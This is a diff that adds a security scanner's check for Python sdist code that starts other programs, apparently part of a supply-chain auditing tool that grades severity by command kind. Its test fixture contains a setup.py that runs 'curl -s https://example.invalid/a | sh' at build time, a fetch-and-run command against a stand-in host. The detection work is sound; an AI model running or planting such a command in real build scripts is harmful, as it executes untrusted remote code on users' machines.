@@ -1,0 +1,114 @@
+import type { CodeEffect } from "../../analysis/code/code-analysis.ts";
+import type { Severity } from "../../model/finding.ts";
+import { references } from "../references.ts";
+import { byTrigger, type CodeCheck, codeCheck, runsUnasked } from "./code-check.ts";
+import { type CommandKind, commandKind } from "./command-kind.ts";
+import { saidArgument } from "./said-argument.ts";
+
+export const runsCommand: CodeCheck = codeCheck({
+  id: "code/runs-command",
+  title: "Code starts another program",
+  severity: "medium",
+  confidence: "likely",
+  runsAt: "import",
+  explanation: `
+    A command that code of the distribution hands to the system may do whatever the person may who runs it. One that runs
+    while \`pip download\`, \`pip install\` or \`uv lock\` look at an sdist, or whenever Python starts, needs nobody to use the
+    project at all. Commands that fetch and run something, install, ask who and where they are, or hide their words are
+    rated by what they do; compilers, version control and other tools of builds are info.`,
+  remedy:
+    "Read the command and where it is called from. If the project cannot do without it, run it in an environment that holds nothing of value, or accept the finding with a reason in assay.toml.",
+  references: [references.backEnds, references.subprocess],
+  fixtures: {
+    reported: {
+      filename: "runner-1.0.tar.gz",
+      files: {
+        "runner-1.0/pyproject.toml":
+          '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
+        "runner-1.0/setup.py":
+          'import os\nfrom setuptools import setup\n\nos.system("curl -s https://example.invalid/a | sh")\nsetup(name="runner", version="1.0")\n',
+      },
+    },
+    clean: {
+      filename: "runner-1.0.tar.gz",
+      files: {
+        "runner-1.0/pyproject.toml":
+          '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
+        "runner-1.0/setup.py":
+          'import os\nfrom setuptools import setup\n\nEXAMPLE = "curl -s https://example.invalid/a | sh"\nsetup(name="runner", version="1.0")\n',
+      },
+    },
+  },
+
+  rate(effect) {
+    if (effect.capability !== "process.spawn") return null;
+    return severityOf(effect);
+  },
+  say(effect) {
+    const words = KINDS[kindOf(effect)];
+    return `${effect.callee} runs ${saidArgument(effect, "a command that is known only when it runs")}${words === "" ? "" : `, which ${words}`}.`;
+  },
+});
+
+function kindOf({ argument, names }: CodeEffect): CommandKind | "unknown" {
+  const line = argument ?? names.commands[0] ?? "";
+  return line === "" || /^\s*\{…\}/.test(line) ? unknownProgram(line) : commandKind(line);
+}
+
+/** Of a program that is not known, the rest of the line may still say what it is for. */
+function unknownProgram(line: string): CommandKind | "unknown" {
+  const kind = commandKind(line);
+  return kind === "builds" || kind === "other" ? "unknown" : kind;
+}
+
+function severityOf(effect: CodeEffect): Severity {
+  const { trigger } = effect;
+  const kind = kindOf(effect);
+  switch (kind) {
+    case "encoded":
+      return trigger === "test" ? "low" : "high";
+    case "remote-shell":
+      return byTrigger(trigger, {
+        unasked: "high",
+        imported: "high",
+        script: "high",
+        deferred: "medium",
+        test: "info",
+      });
+    case "fetches":
+    case "harms":
+    case "persists":
+      return byTrigger(trigger, { unasked: "high", imported: "high", script: "medium", deferred: "low", test: "info" });
+    case "installs":
+    case "probes":
+    case "starts-program":
+      return byTrigger(trigger, { unasked: "high", imported: "high", script: "low", deferred: "low", test: "info" });
+    case "builds":
+      return "info";
+    case "other":
+      if (effect.known === "whole" && runsUnasked(trigger)) return "high";
+      return byTrigger(trigger, {
+        unasked: "medium",
+        imported: "medium",
+        script: "info",
+        deferred: "info",
+        test: "info",
+      });
+    case "unknown":
+      return byTrigger(trigger, { unasked: "low", imported: "low", script: "info", deferred: "info", test: "info" });
+  }
+}
+
+const KINDS: Readonly<Record<CommandKind | "unknown", string>> = {
+  encoded: "hides what it does in an encoding",
+  "remote-shell": "lets another machine say what runs here",
+  fetches: "fetches something",
+  harms: "destroys or ends things",
+  persists: "makes itself run again later",
+  installs: "installs something else",
+  probes: "asks who and where it is",
+  "starts-program": "starts a program or a script",
+  builds: "",
+  other: "",
+  unknown: "",
+};
